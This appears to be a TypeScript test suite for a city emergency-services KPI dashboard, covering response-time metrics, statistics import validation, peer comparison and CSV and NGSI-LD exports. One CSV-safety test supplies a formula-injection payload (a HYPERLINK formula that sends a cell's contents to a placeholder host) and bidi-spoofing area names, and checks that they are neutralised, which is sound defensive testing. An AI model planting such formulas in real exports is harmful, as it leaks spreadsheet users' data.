import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { KPI_SCHEMA } from '../../test/support/kpi-schema.js';
import { SubscribersState } from '../alerts/index.js';
import { CityState } from '../city/index.js';
import type { Area, Site } from '../city/contract.js';
import { cleanLabel, neutraliseFormula, toSafeCsv } from '../kernel/text-safety.js';
import type { AppContext } from '../platform/app-context.js';
import { CockpitService } from './cockpit-service.js';
import { CockpitState } from './cockpit-state.js';
import { evaluate } from './engine/evaluate.js';
import { parsePeriod } from './engine/zone-calendar.js';
import { exportText, valuesToCsv, valuesToNgsiLd } from './export.js';
import { parseCsv } from './imports/csv.js';
import { parsePeers, parseStatistics } from './imports/statistics-import.js';
import { storedEvents, testArea } from '../../test/support/cockpit-fixtures.js';

/** Issue 16 item 5: the cockpit's figures before they are published, each flaw with a test that fails on the old code. */

const area = testArea;
const T0 = Date.UTC(2026, 2, 10, 12); // March 2026
const event = storedEvents(T0);

function cockpit(areas: Area[] = [area('city', 'city'), area('north', 'neighbourhood'), area('south', 'neighbourhood')], sites: Site[] = []) {
  const city = new CityState();
  for (const a of areas) city.apply(event('city.area.defined', { ...a, importId: 't' }));
  if (sites.length) city.apply(event('city.sites.registered', { sites, importId: 't' }));
  const state = new CockpitState(city, new SubscribersState(), 'UTC', () => T0);
  const service = new CockpitService({ clock: { now: () => T0 } } as unknown as AppContext, state);
  return { city, state, service };
}

const minutes = (state: CockpitState, indicatorId: string, areaId = 'city', period = '2026-03') =>
  evaluate(state.sources(), state.catalogue.byId.get(indicatorId)!, areaId, parsePeriod(period)!)!;

function incident(state: CockpitState, incidentId: string, type: string, arrivals: [unitId: string, seconds: number][]) {
  state.apply(event('incidents.incident.opened', { incident: { incidentId, type, createdAt: new Date(T0).toISOString(), location: { siteId: null } } }));
  let first = true;
  for (const [unitId, s] of arrivals) {
    state.apply(event('units.unit.status-changed', { unitId, from: 'en-route', to: 'on-scene', incidentId, note: null }, T0 + s * 1000));
    if (first)
      state.apply(event('incidents.incident.status-changed', { incidentId, from: 'dispatched', to: 'on-scene', resolution: null, note: null }, T0 + s * 1000));
    first = false;
  }
}

function units(state: CockpitState) {
  for (const [unitId, kind] of [
    ['FE1', 'fire-engine'],
    ['PC1', 'police-car'],
    ['AMB1', 'ambulance'],
  ] as const)
    state.apply(
      event('units.unit.registered', {
        unit: { unitId, callSign: unitId, kind, capabilities: [], homeSiteId: null, homePosition: [7.42, 43.73], crew: [], orgId: 'o', demo: false },
      }),
    );
}

test('ISO 37120 10.6 fire response time counts the first fire unit, not a police car that arrived first', () => {
  const { state } = cockpit();
  units(state);
  // Fire 1: police car at 60 s, fire engine at 300 s. Fire 2: fire engine at 420 s. Fire 3: only an ambulance (no fire time).
  incident(state, 'F1', 'fire', [
    ['PC1', 60],
    ['FE1', 300],
  ]);
  incident(state, 'F2', 'fire', [['FE1', 420]]);
  incident(state, 'F3', 'fire', [['AMB1', 30]]);
  const fire = minutes(state, 'iso37120.fire-response-time');
  assert.equal(fire.count, 2, 'two fires reached by a fire unit');
  assert.equal(fire.percentiles!.p50, 6, 'median of 5 and 7 minutes (the police car at 1 minute does not count)');
  const any = minutes(state, 'vigil.incident-response-time');
  assert.equal(any.count, 3, 'the emergency-service time counts the first unit of any kind');
  assert.equal(any.percentiles!.p50, 1, 'median of 0.5, 1 and 7 minutes');
});

test('police response time counts police units at police incidents only', () => {
  const { state } = cockpit();
  units(state);
  incident(state, 'C1', 'crime', [
    ['AMB1', 30],
    ['PC1', 240],
  ]); // the police's time is 4 minutes
  incident(state, 'C2', 'public-disorder', [['PC1', 360]]); // 6 minutes
  incident(state, 'M1', 'medical', [['PC1', 60]]); // a police car at a medical call: not a police incident
  incident(state, 'F1', 'fire', [['PC1', 30]]); // nor at a fire
  const police = minutes(state, 'iso37122.police-response-time');
  assert.equal(police.count, 2);
  assert.equal(police.percentiles!.p50, 5);
});

test('a statistic of 1e999 (or Infinity, NaN, null) is refused, not stored as null', () => {
  const { state } = cockpit();
  const resolve = (ref: string) => (ref === 'city' ? 'city' : null);
  const csv = parseStatistics(
    { source: 's', format: 'csv', content: 'variable,area,period,value\npopulation,city,2026,1e999\npopulation,city,2025,-1e999\n' },
    'i',
    state.catalogue.variables,
    resolve,
  );
  assert.deepEqual(
    csv.errors.map((e) => e.line),
    [2, 3],
  );
  assert.match(csv.errors[0]!.message, /not a finite number/);
  const json = parseStatistics(
    {
      source: 's',
      format: 'json',
      records: [
        { variable: 'population', area: 'city', period: '2026', value: JSON.parse('1e999') as number },
        { variable: 'population', area: 'city', period: '2025', value: null },
      ],
    },
    'i',
    state.catalogue.variables,
    resolve,
  );
  assert.equal(json.errors.length, 2);
  assert.equal(json.records.length, 0);
});

test('peers: negative and infinite values refused, duplicate lines refused with the line they repeat, the statistic required for times', () => {
  const { state } = cockpit();
  const indicators = new Map([...state.catalogue.byId].map(([id, d]) => [id, { measure: d.definition.measure }]));
  const r = parsePeers(
    {
      source: 's',
      format: 'csv',
      content: [
        'city,population,indicator,period,statistic,value',
        'A,30000,iso37120.fire-deaths-per-100k,2025,,-3',
        'B,30000,iso37120.fire-deaths-per-100k,2025,,1e999',
        'C,30000,iso37120.fire-deaths-per-100k,2025,,2',
        'c,30000,iso37120.fire-deaths-per-100k,2025,value,2.5',
        'D,30000,vigil.incident-response-time,2025,,7',
        'E,30000,vigil.incident-response-time,2025,average,7',
        'F,30000,vigil.incident-response-time,2025,p90,12',
        'F,30000,vigil.incident-response-time,2025,median,8',
        'G,30000,iso37120.fire-deaths-per-100k,2025,median,2',
      ].join('\n'),
    },
    'p',
    indicators,
  );
  const byLine = new Map(r.errors.map((e) => [e.line, e.message]));
  assert.deepEqual([...byLine.keys()], [2, 3, 5, 6, 7, 10]);
  assert.match(byLine.get(2)!, /finite number ≥ 0/);
  assert.match(byLine.get(3)!, /finite number ≥ 0/);
  assert.match(byLine.get(5)!, /duplicate: the same city, indicator, period and statistic as line 4/);
  assert.match(byLine.get(6)!, /statistic is required/);
  assert.match(byLine.get(7)!, /not median, p90 or mean/);
  assert.match(byLine.get(10)!, /is a ratio/);
  assert.equal(r.records.length, 0, 'all or nothing');
  const ok = parsePeers(
    { source: 's', format: 'json', records: [{ city: 'F', indicator: 'vigil.incident-response-time', period: '2025', statistic: 'P90', value: 12 }] },
    'p',
    indicators,
  );
  assert.equal(ok.records[0]!.statistic, 'p90');
});

test('peers are compared like with like (median with median, p90 with p90, mean with mean) and a null in an old log is not counted as 0', () => {
  const { state, service } = cockpit();
  units(state);
  // The city's response times: 1, 2, 3, 4 and 10 minutes: median 3, mean 4, p90 7.6.
  [60, 120, 180, 240, 600].forEach((s, i) => incident(state, `I${i}`, 'medical', [['AMB1', s]]));
  const records = [
    { city: 'Med1', statistic: 'median', value: 2 },
    { city: 'Med2', statistic: 'median', value: 5 },
    { city: 'P90a', statistic: 'p90', value: 7 },
    { city: 'P90b', statistic: 'p90', value: 9 },
    { city: 'P90c', statistic: 'p90', value: 12 },
    { city: 'Mean1', statistic: 'mean', value: 3.5 },
    { city: 'Legacy', value: 1 }, // recorded before the statistic was asked for
    { city: 'Broken', statistic: 'median', value: null }, // a 1e999 accepted by the old import, replayed as null
  ].map((p, i) => ({ recordId: `old:${i}`, country: null, population: null, indicatorId: 'vigil.incident-response-time', period: '2026-03', ...p }));
  state.apply(event('cockpit.peers.imported', { importId: 'old', source: 'GCIF-like', format: 'json', records }));
  const median = service.compare('vigil.incident-response-time', '2026-03', 'median');
  assert.equal(median.statistic, 'median');
  assert.equal(median.city.value, 3);
  assert.deepEqual(
    median.peers.map((p) => p.city),
    ['Med1', 'Med2'],
    'no p90, no mean, no statistic-less record, no null',
  );
  assert.equal(median.percentile, 50, 'better than Med2 (5), worse than Med1 (2); the null is not a 0 it would lose to');
  assert.deepEqual(median.otherStatistics, { p90: 3, mean: 1, unknown: 1 });
  const p90 = service.compare('vigil.incident-response-time', '2026-03', 'p90');
  assert.ok(Math.abs(p90.city.value! - 7.6) < 1e-9, String(p90.city.value));
  assert.equal(p90.median, 9);
  assert.ok(Math.abs(p90.percentile! - 200 / 3) < 1e-9, 'at least as good as 9 and 12, not 7');
  const mean = service.compare('vigil.incident-response-time', '2026-03', 'mean');
  assert.equal(mean.city.value, 4);
  assert.deepEqual(
    mean.peers.map((p) => p.city),
    ['Mean1'],
  );
  assert.equal(mean.percentile, 0);
});

test('monthly and quarterly rates use the imported yearly population (said so), never silently the city model', () => {
  const sites: Site[] = [
    {
      id: 'n1',
      name: 'n1',
      category: 'building',
      position: [7.42, 43.73],
      footprintM2: 100,
      levels: 3,
      address: null,
      areaId: 'north',
      buildingType: 'apartments',
      residents: 700,
      source: 't',
    },
    {
      id: 's1',
      name: 's1',
      category: 'building',
      position: [7.42, 43.73],
      footprintM2: 100,
      levels: 3,
      address: null,
      areaId: 'south',
      buildingType: 'apartments',
      residents: 300,
      source: 't',
    },
  ];
  const { state, city } = cockpit(undefined, sites);
  city.apply(
    event('city.population.estimated', {
      estimateId: 'est',
      total: 1000,
      source: 't',
      method: 't',
      part: 0,
      residents: [
        ['n1', 700],
        ['s1', 300],
      ],
    }),
  );
  state.apply(
    event('cockpit.statistics.imported', {
      importId: 'imp',
      source: 'official',
      format: 'csv',
      records: [
        { recordId: 'imp:2', variable: 'population', areaId: 'city', period: '2026', value: 2000 },
        { recordId: 'imp:3', variable: 'population', areaId: 'north', period: '2025', value: 800 },
        { recordId: 'imp:4', variable: 'fire-deaths', areaId: 'city', period: '2026-03', value: 1 },
        { recordId: 'imp:5', variable: 'fire-deaths', areaId: 'north', period: '2026-03', value: 1 },
        { recordId: 'imp:6', variable: 'fire-deaths', areaId: 'south', period: '2026-03', value: 1 },
      ],
    }),
  );
  const month = minutes(state, 'iso37120.fire-deaths-per-100k', 'city', '2026-03');
  assert.equal(month.denominator!.value, 2000, 'the yearly figure, not the model estimate of 1000');
  assert.equal(month.value, 50);
  const pop = month.provenance.find((p) => p.variable === 'population')!;
  assert.equal(pop.kind, 'statistics');
  assert.equal(pop.note, 'the 2026 figure, applied to 2026-03');
  const quarter = minutes(state, 'iso37120.fire-deaths-per-100k', 'city', '2026-Q1');
  assert.equal(quarter.denominator!.value, 2000);
  // North has an imported population for 2025 only: 2026 has none rather than a figure of another source.
  assert.equal(minutes(state, 'iso37120.fire-deaths-per-100k', 'north', '2026-03').value, null);
  // South never had one: the city model's estimate, and the provenance says so.
  const south = minutes(state, 'iso37120.fire-deaths-per-100k', 'south', '2026-03');
  const southPop = south.provenance.find((p) => p.variable === 'population')!;
  assert.equal(southPop.kind, 'city-model');
  assert.match(southPop.note!, /no population imported/);
});

test('NGSI-LD export: no null kpiValue, units and the imported/automatic distinction, valid against the Smart Data Models KeyPerformanceIndicator schema', () => {
  const { state, service } = cockpit();
  units(state);
  incident(state, 'F1', 'fire', [['FE1', 300]]);
  state.apply(
    event('cockpit.statistics.imported', {
      importId: 'imp',
      source: 'official',
      format: 'csv',
      records: [
        { recordId: 'imp:2', variable: 'population', areaId: 'city', period: '2026', value: 2000 },
        { recordId: 'imp:3', variable: 'firefighters', areaId: 'city', period: '2026', value: 40 },
      ],
    }),
  );
  const values = service.table('2026-03', 'city');
  assert.ok(
    values.some((v) => v.value === null),
    'the table has indicators without a value (the test would pass vacuously otherwise)',
  );
  const entities = valuesToNgsiLd(values, state.catalogue.byId, 'Test city', new Date(T0).toISOString());
  assert.equal(entities.length, values.filter((v) => v.value !== null).length);
  for (const e of entities) assert.equal(typeof e.kpiValue, 'number', String(e.id));
  const ajv = new Ajv2020({ strict: false, allErrors: true });
  // The formats the schema uses (ajv-formats is not a dependency): RFC 3339 full-date and date-time, absolute URIs.
  ajv.addFormat('date', /^\d{4}-(0[1-9]|1[0-2])-(0[1-9]|[12]\d|3[01])$/);
  ajv.addFormat('date-time', /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$/);
  ajv.addFormat('uri', /^[a-z][a-z0-9+.-]*:\S+$/i);
  ajv.addFormat('idn-email', /^[^@\s]+@[^@\s]+$/);
  const validate = ajv.compile(KPI_SCHEMA);
  for (const e of entities) assert.ok(validate(e), `${String(e.id)}: ${ajv.errorsText(validate.errors)}`);
  // The old export's null would fail the schema: the test can fail.
  assert.equal(validate({ ...entities[0], kpiValue: null }), false);
  const fire = entities.find((e) => e.alternateName === 'iso37120.fire-response-time')!;
  assert.equal(fire.kpiValue, 5);
  assert.equal(fire.unit, 'minutes');
  assert.equal(fire.unitCode, 'MIN');
  assert.equal(fire.calculationMethod, 'automatic');
  const firefighters = entities.find((e) => e.alternateName === 'iso37120.firefighters-per-100k')!;
  assert.equal(firefighters.kpiValue, 2000);
  assert.equal(firefighters.calculationMethod, 'manual', 'only imported statistics');
  assert.equal(firefighters.unit, 'per 100 000 population');
});

test('CSV export neutralises formula cells, and area names from OSM are cleaned of control and bidi characters', () => {
  const evil = '=HYPERLINK("http://x.example/?"&A1,"Click")';
  const { state, service } = cockpit([
    area('city', 'city', { name: 'Monaco' }),
    area('north', 'neighbourhood', { name: evil }),
    area('south', 'neighbourhood', { name: 'La\u202eenimadnoC\u202c\u0007\n  Sud\t' }),
    area('west', 'neighbourhood', { name: '\u0000\u200f' }),
  ]);
  const index = state.areaIndex();
  assert.equal(index.nodes.get('south')!.name, 'LaenimadnoC Sud');
  assert.equal(index.nodes.get('west')!.name, 'west', 'nothing left: the id');
  const csv = valuesToCsv(service.table('2026-03', 'neighbourhood'), state.catalogue.byId);
  const rows = parseCsv(csv).map((r) => r.fields);
  const areaCol = rows[0]!.indexOf('area');
  const north = rows.filter((r) => r[rows[0]!.indexOf('area_id')] === 'north');
  assert.ok(north.length > 0);
  for (const r of north) assert.equal(r[areaCol], `'${evil}`);
  for (const r of rows.slice(1)) for (const cell of r) assert.doesNotMatch(cell, /^[=+@\t\r]/, cell);
  // Numbers stay numbers: a negative gap is not a formula.
  assert.equal(toSafeCsv([[-5, '-5', '+1', '@SUM(A1)', '\tx', '\rx', 'ok']]), `-5,'-5,'+1,'@SUM(A1),'\tx,"'\rx",ok\r\n`);
  assert.equal(neutraliseFormula('safe'), 'safe');
  assert.equal(cleanLabel('x'.repeat(200)).length, 120);
});

test('citizen reports: time to acknowledge and to resolve per neighbourhood and per responsible organisation (issue 16 item 6)', () => {
  const { state } = cockpit([
    area('city', 'city'),
    area('north', 'neighbourhood', { center: [7.42, 43.74] }),
    area('south', 'neighbourhood', { center: [7.42, 43.72] }),
  ]);
  const h = 3_600_000;
  const report = (reportId: string, serviceCode: string, position: [number, number]) =>
    state.apply(
      event('citizen-reports.report.submitted', { report: { reportId, serviceCode, position, requestedAt: new Date(T0).toISOString() }, reporter: null }),
    );
  report('r1', 'graffiti', [7.42, 43.741]); // north, city services
  report('r2', 'blocked-emergency-exit', [7.42, 43.739]); // north, fire
  report('r3', 'graffiti', [7.42, 43.719]); // south, city services
  report('r4', 'graffiti', [7.42, 43.7395]); // north, merged into r1
  state.apply(event('citizen-reports.report.acknowledged', { reportId: 'r1', note: null }, T0 + 2 * h));
  state.apply(event('citizen-reports.report.escalated', { reportId: 'r2', incidentId: 'i', reference: 'INC-1' }, T0 + 1 * h));
  state.apply(event('citizen-reports.report.acknowledged', { reportId: 'r2', note: null }, T0 + 5 * h)); // already triaged: not counted again
  state.apply(event('citizen-reports.report.merged', { reportId: 'r4', into: 'r1', note: null }, T0 + 3 * h));
  state.apply(event('citizen-reports.report.resolved', { reportId: 'r1', note: 'Cleaned' }, T0 + 10 * h));
  state.apply(event('citizen-reports.report.resolved', { reportId: 'r2', note: 'Cleared' }, T0 + 6 * h));
  state.apply(event('citizen-reports.report.resolved', { reportId: 'r3', note: 'Cleaned' }, T0 + 4 * h)); // resolved unacknowledged: acknowledged at 4 h
  const hours = (id: string, areaId: string) => {
    const v = minutes(state, id, areaId);
    return [v.count, v.percentiles!.p50];
  };
  assert.deepEqual(hours('vigil.citizen-report-ack-time', 'north'), [3, 2], 'r1 2 h, r2 1 h, r4 3 h');
  assert.deepEqual(hours('vigil.citizen-report-ack-time', 'south'), [1, 4]);
  assert.deepEqual(hours('vigil.citizen-report-ack-time', 'city'), [4, 2.5]);
  assert.deepEqual(hours('vigil.citizen-report-ack-time-fire', 'city'), [1, 1]);
  assert.deepEqual(hours('vigil.citizen-report-resolve-time', 'north'), [2, 8], 'r1 10 h, r2 6 h; the merged r4 has no resolution of its own');
  assert.deepEqual(hours('vigil.citizen-report-resolve-time-city', 'city'), [2, 7], 'r1 10 h, r3 4 h');
  assert.deepEqual(hours('vigil.citizen-report-resolve-time-fire', 'north'), [1, 6]);
  assert.equal(minutes(state, 'vigil.citizen-report-resolve-time-police', 'city').count, 0);
  const received = minutes(state, 'vigil.citizen-reports-rate', 'north');
  assert.equal(received.numerator!.value, 3);
});

test('exports are written a slice per turn of the event loop (the alarm path gets turns while a big table is written), with the same texts as before', async () => {
  const { state, service } = cockpit();
  units(state);
  incident(state, 'F1', 'fire', [['FE1', 300]]);
  const one = service.table('2026-03', 'city');
  // A building-level table of a large city: tens of thousands of values.
  const values = Array.from({ length: 30_000 }, (_, i) => ({ ...one[i % one.length]!, areaId: `site_${i}`, areaName: `Building ${i}` }));
  const defs = state.catalogue.byId;
  let turns = 0;
  let spinning = true;
  const spin = (): void => {
    turns++;
    if (spinning) setImmediate(spin);
  };
  setImmediate(spin);
  const turnsAt: number[] = [];
  const csv = await exportText.csv(values, defs);
  turnsAt.push(turns);
  const ngsi = await exportText.ngsiLd(values, defs, 'Test city', new Date(T0).toISOString());
  turnsAt.push(turns);
  const json = await exportText.json({ period: '2026-03', level: 'building', values });
  turnsAt.push(turns);
  spinning = false;
  assert.ok(turnsAt[0]! > 0 && turnsAt[1]! > turnsAt[0]! && turnsAt[2]! > turnsAt[1]!, `the event loop turned during each export (${turnsAt.join(', ')})`);
  assert.equal(csv, valuesToCsv(values, defs));
  assert.equal(ngsi, JSON.stringify(valuesToNgsiLd(values, defs, 'Test city', new Date(T0).toISOString())));
  assert.equal(json, JSON.stringify({ period: '2026-03', level: 'building', values }));
  assert.equal(await exportText.csv([], defs), valuesToCsv([], defs));
});
